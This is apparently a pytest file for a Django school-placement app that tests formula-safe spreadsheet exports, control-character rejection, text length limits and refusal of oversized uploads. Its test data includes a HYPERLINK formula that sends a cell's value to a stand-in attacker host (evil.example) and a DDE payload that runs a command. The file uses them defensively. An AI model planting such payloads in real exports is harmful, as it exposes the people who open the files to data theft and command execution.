"""Issue 8 items 6, 7, 12 and the upload limit: formula-safe exports, control characters refused at input and
stripped on export, free-text length limits, and 413 for over-size requests before the body is read."""

from __future__ import annotations

import csv
import io
import json
import zipfile

import pytest
from django.core.handlers.wsgi import WSGIHandler
from django.test import RequestFactory
from django.utils import translation
from openpyxl import load_workbook

from workbridge.academics.models import Department, Teacher
from workbridge.core import exporting
from workbridge.core.exceptions import ValidationFailed
from workbridge.core.roles import Role
from workbridge.core.services import full_clean_or_raise

FORMULAS = ["=1+2", '=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1-2", "-2+3", "@SUM(A1:A2)", "\tTAB", "\rCR"]


@pytest.fixture(autouse=True)
def _english():
    with translation.override("en"):
        yield


def _sheet_xml(data: bytes) -> str:
    return zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()


# ------------------------------------------------------------------------------------------------ exporting


def test_formula_like_text_is_exported_as_text_in_xlsx_and_numbers_stay_numbers():
    data = exporting.xlsx_bytes("t", [("v", lambda r: r)], [*FORMULAS, -5, -2.5, "plain"])
    assert "<f>" not in _sheet_xml(data), "no live formula may be written"
    cells = list(load_workbook(io.BytesIO(data)).active["A"])[1:]
    for cell, text in zip(cells, FORMULAS, strict=False):
        # (some XML readers turn a CR into LF; the point is that it is text)
        assert cell.value in (text, text.replace("\r", "\n"))
        assert (cell.data_type, cell.quotePrefix) == ("s", True)
    assert [(c.value, c.data_type) for c in cells[len(FORMULAS) :]] == [(-5, "n"), (-2.5, "n"), ("plain", "s")]


def test_formula_like_text_is_prefixed_with_a_quote_in_csv():
    data = exporting.csv_bytes([("v", lambda r: r)], [*FORMULAS, -5, "plain"])
    assert data.startswith(b"\xef\xbb\xbf")
    values = [r[0] for r in csv.reader(io.StringIO(data.decode("utf-8-sig")))][1:]
    assert values == ["'" + f for f in FORMULAS] + ["-5", "plain"]


def test_control_characters_and_lone_surrogates_are_stripped_on_export():
    data = exporting.xlsx_bytes("t", [("v", lambda r: r)], ["机电\x1b[31m系\x07", "a\ud800b", "keep\ttab\nline"])
    values = [c.value for c in load_workbook(io.BytesIO(data)).active["A"]][1:]
    assert values == ["机电[31m系", "ab", "keep\ttab\nline"]
    assert exporting.csv_bytes([("v", lambda r: r)], ["x\x1b\x9by"]).decode("utf-8-sig").splitlines()[1] == "xy"


def test_report_exports_go_through_the_safe_path():
    from workbridge.placements.statistics import statistics_xlsx

    row = {
        "name": "=cmd|' /C calc'!A0",
        "eligible": 3,
        "placed": -1,
        "placement_rate": 0.5,
        "relevance": None,
        "completed": 0,
        "terminated": 0,
        "completion": None,
        "hired": 0,
        "retention": None,
    }
    sheet = load_workbook(io.BytesIO(statistics_xlsx({"by": "school", "rows": [row]}))).active
    assert (sheet["A2"].value, sheet["A2"].data_type) == ("=cmd|' /C calc'!A0", "s")
    assert (sheet["C2"].value, sheet["C2"].data_type) == (-1, "n")


@pytest.mark.django_db
def test_list_export_with_esc_bel_and_formula_names_answers_200(world, client):
    """The department list export answered 500 for a name with ESC/BEL (saved before input was checked)."""
    bad = Department.objects.create(school=world.school1, name="plain")
    Department.objects.filter(pk=bad.pk).update(name="机电\x1b\x07系")
    formula = Department.objects.create(school=world.school1, name="f")
    Department.objects.filter(pk=formula.pk).update(name='=HYPERLINK("http://x","y")')
    client.force_login(world.users[Role.SCHOOL_ADMIN])
    response = client.get("/academics/departments/?export=xlsx")
    assert response.status_code == 200
    names = {c.value: c for row in load_workbook(io.BytesIO(response.content)).active.iter_rows() for c in row}
    assert "机电系" in names and names['=HYPERLINK("http://x","y")'].data_type == "s"
    response = client.get("/academics/departments/?export=csv")
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    text = response.content.decode("utf-8-sig")
    assert "机电系" in text and "'=HYPERLINK" in text and "\x1b" not in text


# ------------------------------------------------------------------------------------------------ input


@pytest.mark.django_db
@pytest.mark.parametrize("name", ["机电\x1b[31m系", "铃\x07", "C1\x85", "surrogate\ud800"])
def test_control_characters_are_refused_by_every_model_save_path(world, name):
    with pytest.raises(ValidationFailed) as info:
        full_clean_or_raise(Department(school=world.school1, name=name))
    assert "name" in info.value.errors
    assert "control character" in info.value.errors["name"][0]


@pytest.mark.django_db
def test_tab_and_newlines_are_still_allowed_in_text(world):
    teacher = Teacher(
        school=world.school1, employee_number="T9", name="王老师", qualifications="第一行\n第二行\r\n\t缩进"
    )
    full_clean_or_raise(teacher, exclude=["department"])


@pytest.mark.django_db
def test_free_text_has_a_default_length_limit(world, settings):
    teacher = Teacher(school=world.school1, employee_number="T9", name="王老师", qualifications="长" * 20_001)
    with pytest.raises(ValidationFailed) as info:
        full_clean_or_raise(teacher, exclude=["department"])
    assert "20001 characters, at most 20000" in info.value.errors["qualifications"][0]
    settings.TEXT_MAX_LENGTH = 30_000
    full_clean_or_raise(teacher, exclude=["department"])


@pytest.mark.django_db
def test_api_answers_400_naming_the_field(world, api_client_for):
    client = api_client_for(world.users[Role.SCHOOL_ADMIN])
    for name in ("IT\x1b[2J", "铃\x07"):
        response = client.post("/api/v1/departments/", {"name": name, "code": "D1"}, format="json")
        assert response.status_code == 400, response.content
        assert "name" in json.dumps(response.json()), response.json()
    # A lone surrogate sent as a JSON escape.
    response = client.post(
        "/api/v1/departments/", data='{"name": "x\\ud800", "code": "D2"}', content_type="application/json"
    )
    assert response.status_code == 400, response.content
    assert not Department.objects.filter(code__in=["D1", "D2"]).exists()


@pytest.mark.django_db
def test_form_shows_the_error_beside_the_field(world, client):
    client.force_login(world.users[Role.SCHOOL_ADMIN])
    response = client.post("/academics/departments/new/", {"name": "机电\x1b系", "code": "D3"})
    assert response.status_code == 200
    assert "含有无法保存的控制字符（U+001B）" in response.content.decode()  # the page is in Chinese
    assert not Department.objects.filter(code="D3").exists()


# ------------------------------------------------------------------------------------------------ request size


class ExplodingStream:
    """A request body that must never be read."""

    def read(self, *args):
        raise AssertionError("the body was read")

    readline = read

    def __iter__(self):
        raise AssertionError("the body was read")


def _wsgi(path: str, length: int, content_type: str):
    environ = RequestFactory()._base_environ(
        PATH_INFO=path,
        REQUEST_METHOD="POST",
        CONTENT_LENGTH=str(length),
        CONTENT_TYPE=content_type,
        HTTP_ACCEPT_LANGUAGE="en",
    )
    environ["wsgi.input"] = ExplodingStream()
    status = {}

    def start_response(code, headers, exc_info=None):
        status["code"] = int(code.split()[0])
        status["headers"] = dict(headers)

    body = b"".join(WSGIHandler()(environ, start_response))
    return status["code"], status["headers"], body


@pytest.mark.django_db
def test_300_mb_upload_is_refused_before_the_body_is_read():
    code, headers, body = _wsgi("/api/v1/imports/", 300 * 2**20, "multipart/form-data; boundary=x")
    assert code == 413
    assert headers["Content-Type"] == "application/json"
    payload = json.loads(body)
    assert payload["code"] == "too_large" and "25 MB" in payload["detail"]
    code, headers, body = _wsgi("/imports/students/", 300 * 2**20, "multipart/form-data; boundary=x")
    assert code == 413 and b"25 MB" in body


@pytest.mark.django_db
def test_large_non_upload_body_is_refused_with_the_smaller_limit():
    code, _headers, body = _wsgi("/api/v1/departments/", 6 * 2**20, "application/json")
    assert code == 413 and b"5 MB" in body


@pytest.mark.django_db
def test_requests_under_the_limit_pass(world, client):
    client.force_login(world.users[Role.SCHOOL_ADMIN])
    response = client.post("/academics/departments/new/", {"name": "机电系", "code": "D4"})
    assert response.status_code == 302
